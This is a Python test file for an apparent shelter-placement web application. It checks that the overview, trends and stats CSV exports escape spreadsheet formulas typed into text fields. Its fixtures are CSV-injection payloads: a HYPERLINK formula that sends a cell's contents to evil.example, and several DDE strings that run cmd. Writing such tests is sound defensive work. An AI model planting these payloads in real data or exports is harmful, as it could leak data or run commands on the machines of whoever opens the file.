"""An insider types a spreadsheet formula where an export will carry it (a shelter's name or region, an
organisation's name, an alert's message, a decline reason) and waits for the secretariat or a manager to
open the CSV: every such cell must come out inert, prefixed with `'` (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from alerts.models import Alert
from extensions import db
from placement.models import PlacementEvent, PlacementRequest

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
REGION = "+cmd|' /C calc'!A0"
ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"
ALERT = "-2+3+cmd|' /C calc'!A0"
REASON = "\t=1+1"


def read(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv", response.status_code
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"live formula in an export: {cell!r}"


def test_every_export_neutralises_formulas_typed_into_its_text(client, pages, make, now):
    org = make.org(name=ORGANISATION)
    police = make.user("police", org=org)
    shelter = make.shelter("EVIL", name=NAME, region=REGION)
    case = make.case(created_by=police, identified_on=now.date() - timedelta(days=3))
    db.session.add(Alert(kind="system", subject_type="shelter", subject="EVIL", shelter_id=shelter.id,
                         severity="warning", message=ALERT, figures={}, first_seen=now, last_seen=now))
    declined = PlacementRequest(case_id=case.id, requested_by_id=police.id, status="declined", shelter_id=shelter.id,
                                reason=REASON, created_at=now - timedelta(hours=2), updated_at=now - timedelta(hours=1))
    db.session.add(declined)
    db.session.flush()
    db.session.add(PlacementEvent(request_id=declined.id, at=now - timedelta(hours=1), from_status="reserved",
                                  to_status="declined", shelter_code=shelter.code))
    db.session.commit()

    assert pages.login(make.user("secretariat").username).status_code == 302
    overview = read(client.get("/overview.csv"))
    trends = read(client.get("/overview/trends.csv"))
    assert pages.login(make.manager(shelter).username).status_code == 302  # signing in again replaces the user
    stats = read(client.get("/stats.csv"))

    for rows in (overview, trends, stats):
        assert_inert(rows)
    for rows in (overview, stats):
        header, (line,) = rows[0], rows[1:]
        cell = dict(zip(header, line, strict=True))
        assert (cell["name"], cell["region"]) == ("'" + NAME, "'" + REGION)
    assert dict(zip(overview[0], overview[1], strict=True))["open_alerts"] == "'" + ALERT
    assert dict(zip(stats[0], stats[1], strict=True))["decline_reasons"] == f"'{REASON}: 1"
    assert ["organisation", "'" + ORGANISATION, "Cases", "1"] in trends
    assert ["declined", "'" + REASON, "Cases", "1"] in trends
